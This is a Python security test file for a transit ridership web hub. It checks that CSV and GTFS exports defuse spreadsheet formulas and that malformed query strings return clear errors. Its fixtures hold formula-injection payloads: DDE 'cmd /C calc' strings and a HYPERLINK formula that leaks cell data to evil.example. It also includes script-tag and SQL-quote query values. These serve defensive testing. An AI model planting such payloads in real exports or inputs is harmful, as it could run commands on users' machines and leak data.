"""Attacks through the ridership page: crashing it with its query string, and a bus that
names its stops with spreadsheet formulas to run them on the transit office's PC."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import date, datetime, timedelta
from typing import Any
from urllib.parse import quote

import pytest

from mimamori.edge import contract
from mimamori.hub.cli import Hub
from mimamori.hub.clock import zone
from mimamori.provisioning.fleet import Fleet
from mimamori.provisioning.mosquitto import MosquittoProcess
from tests.kiosk.conftest import web_hub  # noqa: F401  (the hub with its pages served)
from tests.mqtt_probe import wait_until
from tests.security.web_helpers import Browser, device, signed_in

DAY = date(2026, 11, 25)
# the bus number must be the bus's own (ingest checks it); every other string is its word
FORMULAS = {
    "route_id": "+1+cmd|' /C calc'!A0",
    "trip_id": "-2+3+cmd|' /C calc'!A0",
    "stop_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "stop_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
}


def visit(seq: int, on: int, off: int, at: str, **over: Any) -> dict[str, Any]:
    arrival = datetime.combine(DAY, datetime.strptime(at, "%H:%M").time(), tzinfo=zone())
    v = {
        "visit": uuid.uuid4().hex, "vehicle": "bus-01", "service_date": DAY.isoformat(),
        "route_id": "R1", "trip_id": "T0730", "direction_id": 0, "stop_id": f"S{seq}",
        "stop_name": f"停留所{seq}", "stop_sequence": seq, "arrival": arrival.isoformat(),
        "departure": (arrival + timedelta(seconds=40)).isoformat(), "boardings": on,
        "alightings": off, "doors": [{"door": "front", "boardings": on, "alightings": off}],
        "match": "trip", "distance_m": 4.0,
    }  # fmt: skip
    v.update(over)
    return contract.StopVisitData.model_validate(v).model_dump(mode="json")


@pytest.fixture
def evil_bus(web_hub: Hub, fleet: Fleet, broker: MosquittoProcess) -> None:  # noqa: F811
    """A bus (its own real certificate) reporting a trip whose strings are formulas."""
    with device(fleet, broker, "bus-01", "ridership") as bus:
        for v in (
            visit(1, 5, 0, "07:30", **FORMULAS),
            visit(2, 0, 5, "07:40", **{**FORMULAS, "stop_id": "\t=2+2"}),
        ):
            bus.event("ridership.stop_visit", v, created=datetime.fromisoformat(v["departure"]))
        wait_until(lambda: web_hub.store.count_events() == 2, 15, "visits stored")


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_exports_carry_no_formula_a_spreadsheet_would_run(web_hub: Hub, evil_bus: None) -> None:  # noqa: F811
    clerk = signed_in(web_hub, "kato", "transit")
    q = f"?from={DAY}&to={DAY}"
    page = clerk.get("/ridership" + q)
    assert page.status == 200 and "HYPERLINK" in page.text  # shown (escaped) on the page
    table = clerk.get("/ridership/visits.csv" + q)
    assert table.status == 200
    assert formula_cells(table.text) == []
    rows = list(csv.DictReader(io.StringIO(table.text.lstrip("\ufeff"))))
    assert len(rows) == 2
    for key, value in FORMULAS.items():
        assert rows[0][key] == "'" + value  # kept readable, just not run
    assert rows[1]["stop_id"] == "'\t=2+2" and rows[0]["vehicle"] == "bus-01"
    assert rows[0]["boardings"] == "5" and rows[1]["alightings"] == "5"  # numbers stay numbers
    feed = clerk.get("/ridership/gtfs-ride.zip" + q)
    assert feed.status == 200
    with zipfile.ZipFile(io.BytesIO(feed.body)) as z:
        for name in z.namelist():
            text = z.read(name).decode()
            assert formula_cells(text) == [], name
        board = list(csv.DictReader(io.StringIO(z.read("board_alight.txt").decode())))
    assert board[0]["trip_id"] == "'" + FORMULAS["trip_id"] and board[0]["boardings"] == "5"


def test_safe_cell_leaves_numbers_and_plain_text() -> None:
    from mimamori.hub.ridership.export import safe_cell

    assert [safe_cell(v) for v in (5, -3, 1.5, None, "R1", "停留所", "")] == [
        5, -3, 1.5, None, "R1", "停留所", ""
    ]  # fmt: skip
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx")] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx"
    ]  # fmt: skip


BAD_QUERIES = [
    "from=0001-01-01&to=9999-12-31",
    "from=9999-12-31",
    "to=9999-12-31",
    "from=0001-01-01",
    "to=0001-01-01",
    "from=1999-12-31&to=2000-01-01",
    "from=2026-02-30",
    "from=2026-13-01",
    "from=not-a-date",
    "to=" + quote("2026-11-25\x00"),
    "from=" + "9" * 5000,
]
ODD_QUERIES = [
    "direction=2",
    "direction=-1",
    "direction=" + "1" * 400,
    "day=funday",
    "band=" + quote("<script>"),
    "route=" + quote("\x00'\";--"),
    "route=" + "R" * 5000,
    "from=2026-11-25&to=2026-11-25&route=R1&direction=0&day=weekday&band=am",
    "from=2000-01-01&to=2099-12-31",
]


@pytest.mark.parametrize(
    "path", ["/ridership", "/ridership/visits.csv", "/ridership/gtfs-ride.zip"]
)
def test_a_hostile_query_string_gets_a_clear_answer_never_a_crash(
    web_hub: Hub,  # noqa: F811
    evil_bus: None,
    path: str,
) -> None:
    clerk = signed_in(web_hub, "kato", "transit")
    for q in BAD_QUERIES:
        r = clerk.get(f"{path}?{q}")
        assert r.status == 400, (q, r.status)
        assert "outside" in r.text or "not a date" in r.text, (q, r.text[:200])
    for q in ODD_QUERIES:
        r = clerk.get(f"{path}?{q}")
        assert r.status == 200, (q, r.status)
    assert clerk.get("/").status == 200  # and the hub still serves


def test_ridership_page_shows_the_reason_for_a_bad_date(web_hub: Hub) -> None:  # noqa: F811
    clerk = signed_in(web_hub, "kato", "transit")
    r = clerk.get("/ridership?from=0001-01-01&to=9999-12-31")
    assert r.status == 400
    assert 'class="flash error"' in r.text and "is outside 2000-01-01 to 2099-12-31" in r.text
    assert Browser(web_hub).get("/ridership?from=0001-01-01").status == 302  # signed in only
